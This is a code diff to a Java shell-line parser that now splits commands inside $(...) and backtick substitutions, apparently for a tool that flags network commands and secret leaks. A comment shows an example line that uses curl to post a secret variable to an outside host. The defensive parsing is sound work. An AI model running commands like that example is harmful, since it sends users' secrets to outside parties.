@@ -68,14 +68,23 @@ final class Shell {
     return out;
   }
 
-  /** The words of a line with quotes removed; pipes, semicolons and ampersands are words. */
+  /**
+   * The words of a line with quotes removed; pipes, semicolons and ampersands are words. A
+   * command substitution ({@code $(...)} or backticks) is part of the word it appears in and is
+   * kept verbatim, as the shell reads it: its pipes and separators split the commands inside
+   * it ({@link #commands}), not the line around it.
+   */
   static List<String> words(String line) {
     List<String> out = new ArrayList<>();
     StringBuilder w = new StringBuilder();
     char quote = 0;
     for (int i = 0; i < line.length(); i++) {
       char c = line.charAt(i);
-      if (quote != 0) {
+      int end = quote == '\'' ? -1 : substitutionEnd(line, i);
+      if (end > 0) {
+        w.append(line, i, end);
+        i = end - 1;
+      } else if (quote != 0) {
         if (c == quote) {
           quote = 0;
         } else {
@@ -103,8 +112,12 @@ final class Shell {
     }
   }
 
-  /** The commands of a line: words split at pipes and command separators, with a flag. */
-  record Command(List<String> words, boolean pipedOut, boolean pipedIn) {
+  /**
+   * One command of a line: its words, whether its output is piped into the next command or
+   * comes from the one before, and whether it runs inside a command substitution (its output
+   * is then captured into the command around it, not printed).
+   */
+  record Command(List<String> words, boolean pipedOut, boolean pipedIn, boolean captured) {
     String name() {
       for (String w : words) {
         if (WRAPPERS.contains(w)) {
@@ -120,7 +133,16 @@ final class Shell {
     }
   }
 
+  /**
+   * The commands of a line: words split at pipes and command separators, then the commands
+   * inside each command substitution ({@code X=$(curl -d "$T" https://x)} runs curl), marked as
+   * captured.
+   */
   static List<Command> commands(String line) {
+    return commands(line, false, 0);
+  }
+
+  private static List<Command> commands(String line, boolean captured, int depth) {
     List<Command> out = new ArrayList<>();
     List<String> cur = new ArrayList<>();
     boolean pipedIn = false;
@@ -131,7 +153,7 @@ final class Shell {
           && (i == 0 || !ws.get(i - 1).equals("|"));
       if (w.equals("|") || w.equals(";") || w.equals("&")) {
         if (!cur.isEmpty()) {
-          out.add(new Command(List.copyOf(cur), pipe, pipedIn));
+          out.add(new Command(List.copyOf(cur), pipe, pipedIn, captured));
         }
         cur.clear();
         pipedIn = pipe;
@@ -140,9 +162,74 @@ final class Shell {
       }
     }
     if (!cur.isEmpty()) {
-      out.add(new Command(List.copyOf(cur), false, pipedIn));
+      out.add(new Command(List.copyOf(cur), false, pipedIn, captured));
+    }
+    if (depth < MAX_NESTING) {
+      for (String body : substitutions(line)) {
+        out.addAll(commands(body, true, depth + 1));
+      }
     }
     return out;
+  }
+
+  /** Deepest command substitution read; deeper ones are left as words (bounded work). */
+  private static final int MAX_NESTING = 8;
+
+  /**
+   * The bodies of the outermost command substitutions of a line ({@code $(...)} and backticks,
+   * not arithmetic {@code $((...))}), outside single quotes, where the shell expands them.
+   */
+  static List<String> substitutions(String line) {
+    List<String> out = new ArrayList<>();
+    char quote = 0;
+    for (int i = 0; i < line.length(); i++) {
+      char c = line.charAt(i);
+      if (c == '\'' || c == '"') {
+        quote = quote == 0 ? c : quote == c ? 0 : quote;
+        continue;
+      }
+      int end = quote == '\'' ? -1 : substitutionEnd(line, i);
+      if (end > 0 && line.startsWith("$((", i)) {
+        i = end - 1;
+      } else if (end > 0) {
+        int open = c == '`' ? 1 : 2;
+        boolean closed = end - i > open && line.charAt(end - 1) == (c == '`' ? '`' : ')');
+        out.add(line.substring(i + open, closed ? end - 1 : end));
+        i = end - 1;
+      }
+    }
+    return out;
+  }
+
+  /**
+   * The end (exclusive) of the command substitution (or arithmetic expansion, which is one word
+   * and no command) that opens at {@code i}, or -1 when none opens there; an unclosed one runs
+   * to the end of the line. Parentheses inside quotes do not count.
+   */
+  private static int substitutionEnd(String s, int i) {
+    char c = s.charAt(i);
+    if (c == '`') {
+      int close = s.indexOf('`', i + 1);
+      return close < 0 ? s.length() : close + 1;
+    }
+    if (c != '$' || !s.startsWith("$(", i)) {
+      return -1;
+    }
+    int depth = 0;
+    char quote = 0;
+    for (int j = i + 1; j < s.length(); j++) {
+      char d = s.charAt(j);
+      if (quote != 0) {
+        quote = d == quote ? 0 : quote;
+      } else if (d == '\'' || d == '"') {
+        quote = d;
+      } else if (d == '(') {
+        depth++;
+      } else if (d == ')' && --depth == 0) {
+        return j + 1;
+      }
+    }
+    return s.length();
   }
 
   /** Whether a command name is a network tool (curl, wget, netcat, PowerShell's web calls). */
@@ -236,7 +323,7 @@ final class Shell {
    */
   static boolean printsSecret(String line, Predicate<String> isSecretRef) {
     for (Command c : commands(line)) {
-      if (!PRINT.contains(c.name()) || c.pipedOut()) {
+      if (!PRINT.contains(c.name()) || c.pipedOut() || c.captured()) {
         continue;
       }
       boolean redirected = false;
